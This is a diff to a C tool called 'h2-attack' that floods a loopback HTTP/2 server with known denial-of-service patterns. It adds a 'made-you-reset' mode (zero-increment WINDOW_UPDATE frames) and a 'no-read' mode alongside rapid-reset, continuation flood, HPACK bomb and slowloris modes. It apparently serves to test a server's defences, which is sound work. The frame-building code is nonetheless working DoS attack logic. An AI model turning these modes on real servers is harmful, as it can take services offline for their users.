@@ -7,6 +7,8 @@
  * at most --seconds (default 5, at most 30). Modes:
  *   rapid-reset     HEADERS(END_STREAM) immediately followed by RST_STREAM(CANCEL) on fresh streams, 256 pairs per
  *                   write, as fast as the socket accepts (CVE-2023-44487)
+ *   made-you-reset  the same, but each request is followed by WINDOW_UPDATE(increment 0) on its stream instead, a
+ *                   stream error that makes the server reset the stream itself
  *   continuation    HEADERS without END_HEADERS, then CONTINUATION frames without END_HEADERS, endlessly
  *                   (CVE-2024-27316 style); --payload bytes each (default 1024)
  *   hpack-bomb      one header block that enters a 4000-byte header in the HPACK dynamic table, then refers to it with
@@ -15,10 +17,13 @@
  *   settings-flood  SETTINGS frames (INITIAL_WINDOW_SIZE alternating), 256 per write
  *   zero-window     SETTINGS_INITIAL_WINDOW_SIZE = 0, then --streams GETs of --path (default 32 × /openapi.json),
  *                   then never reads the socket nor grants any window; waits for the server to close
+ *   no-read         the same GETs with the default window, on a socket with a 4 KB receive buffer that is never
+ *                   read: the server's writes block. The server's FIN then waits behind unread data, so closed=0 even
+ *                   when the server closed (see it with ss: FIN-WAIT-1 on the server's side)
  *   slowloris       HTTP/1.1: a request line and headers sent one byte every --interval-ms (default 1000), never
  *                   finished
- * It reads what the server sends (except in zero-window, which only watches for the close and reads at the end) and
- * parses the frames enough to report, one line per connection (key=value, no spaces in values):
+ * It reads what the server sends (except in zero-window and no-read, which only watch for the close and read at the
+ * end) and parses the frames enough to report, one line per connection (key=value, no spaces in values):
  *   conn=1 mode=rapid-reset goaway=ENHANCE_YOUR_CALM goaway_after_ms=37 closed=1 closed_after_ms=38 connections=1
  *   calm_goaways=1 frames_sent=2048 bytes_sent=61440 frames_received=... bytes_received=... debug=rapid_reset:...
  * then a summary line. goaway=none when no GOAWAY arrived; closed_after_ms=-1 when the server never closed.
@@ -51,9 +56,19 @@
 #define FRAMES_PER_WRITE 256
 #define MAX_INBUF (4u << 20)
 
-enum mode { RAPID_RESET, CONTINUATION, HPACK_BOMB, PING_FLOOD, SETTINGS_FLOOD, ZERO_WINDOW, SLOWLORIS };
-static const char *const MODE_NAMES[] = {"rapid-reset", "continuation", "hpack-bomb", "ping-flood",
-                                         "settings-flood", "zero-window", "slowloris"};
+enum mode {
+    RAPID_RESET,
+    MADE_YOU_RESET,
+    CONTINUATION,
+    HPACK_BOMB,
+    PING_FLOOD,
+    SETTINGS_FLOOD,
+    ZERO_WINDOW,
+    NO_READ,
+    SLOWLORIS
+};
+static const char *const MODE_NAMES[] = {"rapid-reset", "made-you-reset", "continuation", "hpack-bomb", "ping-flood",
+                                         "settings-flood", "zero-window", "no-read", "slowloris"};
 
 static const char *const ERROR_NAMES[] = {"NO_ERROR",       "PROTOCOL_ERROR",      "INTERNAL_ERROR",
                                           "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
@@ -182,6 +197,7 @@ static size_t request_block(uint8_t *dst, const char *path)
 #define F_SETTINGS 4
 #define F_PING 6
 #define F_GOAWAY 7
+#define F_WINDOW_UPDATE 8
 #define F_CONTINUATION 9
 #define FL_END_STREAM 0x1
 #define FL_ACK 0x1
@@ -215,6 +231,16 @@ static void refill(conn_t *c)
         for (int i = 0; i < PAIRS_PER_WRITE && c->next_stream < 0x7ffffff0u; i++) {
             frame(c, F_HEADERS, FL_END_STREAM | FL_END_HEADERS, c->next_stream, block, block_len);
             frame(c, F_RST_STREAM, 0, c->next_stream, cancel, 4);
+            c->next_stream += 2;
+            c->streams_opened++;
+        }
+        break;
+    }
+    case MADE_YOU_RESET: {
+        static const uint8_t zero[4] = {0, 0, 0, 0};
+        for (int i = 0; i < PAIRS_PER_WRITE && c->next_stream < 0x7ffffff0u; i++) {
+            frame(c, F_HEADERS, FL_END_STREAM | FL_END_HEADERS, c->next_stream, block, block_len);
+            frame(c, F_WINDOW_UPDATE, 0, c->next_stream, zero, 4);
             c->next_stream += 2;
             c->streams_opened++;
         }
@@ -279,6 +305,7 @@ static void refill(conn_t *c)
         break;
     }
     case ZERO_WINDOW:
+    case NO_READ:
         if (c->phase == 0) {
             for (int i = 0; i < opt.streams; i++) {
                 frame(c, F_HEADERS, FL_END_STREAM | FL_END_HEADERS, c->next_stream, block, block_len);
@@ -313,9 +340,11 @@ static int open_conn(conn_t *c)
 {
     struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)opt.port)};
     sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
-    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1;
+    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1, small = 4096;
     if (fd < 0)
         return -1;
+    if (opt.mode == NO_READ) /* before connect, so that the window scale stays small */
+        setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
     if (connect(fd, (struct sockaddr *)&sa, sizeof sa) != 0) {
         close(fd);
         return -1;
@@ -352,7 +381,8 @@ static void parse_frames(conn_t *c)
             break;
         uint8_t type = f[3], flags = f[4];
         c->frames_received++;
-        if (type == F_SETTINGS && !(flags & FL_ACK) && !c->settings_acked && opt.mode != ZERO_WINDOW) {
+        int reads = opt.mode != ZERO_WINDOW && opt.mode != NO_READ;
+        if (type == F_SETTINGS && !(flags & FL_ACK) && !c->settings_acked && reads) {
             frame(c, F_SETTINGS, FL_ACK, 0, NULL, 0);
             c->settings_acked = 1;
         } else if (type == F_GOAWAY && len >= 8 && c->goaway_code < 0) {
@@ -473,7 +503,8 @@ static void usage(void)
             "usage: h2-attack --port PORT --mode MODE [--host 127.0.0.1] [--seconds N (1..%d, default 5)]\n"
             "                 [--connections N (1..%d)] [--reconnect] [--path /p] [--streams N] [--payload BYTES]\n"
             "                 [--interval-ms MS]\n"
-            "modes: rapid-reset continuation hpack-bomb ping-flood settings-flood zero-window slowloris\n",
+            "modes: rapid-reset made-you-reset continuation hpack-bomb ping-flood settings-flood zero-window no-read\n"
+            "       slowloris\n",
             MAX_SECONDS, MAX_CONNECTIONS);
     exit(2);
 }
@@ -538,7 +569,7 @@ int main(int argc, char **argv)
     if (opt.port == 0 || !have_mode)
         usage();
     if (opt.path == NULL)
-        opt.path = opt.mode == ZERO_WINDOW ? "/openapi.json" : "/healthz";
+        opt.path = opt.mode == ZERO_WINDOW || opt.mode == NO_READ ? "/openapi.json" : "/healthz";
     signal(SIGPIPE, SIG_IGN);
 
     conn_t *conns = calloc((size_t)opt.connections, sizeof *conns);
@@ -560,7 +591,8 @@ int main(int argc, char **argv)
 
     /* With --reconnect, the connections open at the deadline get up to one more second to be closed (no new ones are
      * opened), so that every connection reported has an outcome. */
-    const int64_t deadline = now_ms() + (int64_t)opt.seconds * 1000, hard_deadline = deadline + (opt.reconnect ? 1000 : 0);
+    const int64_t deadline = now_ms() + (int64_t)opt.seconds * 1000;
+    const int64_t hard_deadline = deadline + (opt.reconnect ? 1000 : 0);
     struct pollfd pfd[MAX_CONNECTIONS];
     for (;;) {
         int64_t now = now_ms();
@@ -586,7 +618,7 @@ int main(int argc, char **argv)
             }
             pfd[n].fd = c->fd;
             pfd[n].events = POLLRDHUP;
-            if (opt.mode != ZERO_WINDOW)
+            if (opt.mode != ZERO_WINDOW && opt.mode != NO_READ)
                 pfd[n].events |= POLLIN;
             if (buf_pending(&c->out) != 0)
                 pfd[n].events |= POLLOUT;
@@ -608,7 +640,7 @@ int main(int argc, char **argv)
             if (c == NULL || pfd[k].revents == 0)
                 continue;
             int gone = 0;
-            if (opt.mode == ZERO_WINDOW) {
+            if (opt.mode == ZERO_WINDOW || opt.mode == NO_READ) {
                 gone = (pfd[k].revents & (POLLRDHUP | POLLHUP | POLLERR)) != 0;
             } else if (pfd[k].revents & (POLLIN | POLLRDHUP | POLLHUP | POLLERR)) {
                 gone = read_some(c);
@@ -623,7 +655,7 @@ int main(int argc, char **argv)
     int calm = 0, closed = 0, total = 0;
     for (int i = 0; i < opt.connections; i++) {
         conn_t *c = &conns[i];
-        if (c->fd >= 0 && opt.mode == ZERO_WINDOW)
+        if (c->fd >= 0 && (opt.mode == ZERO_WINDOW || opt.mode == NO_READ))
             read_some(c); /* report a GOAWAY that came without a close */
         report(c);
         calm += c->calm_goaways;
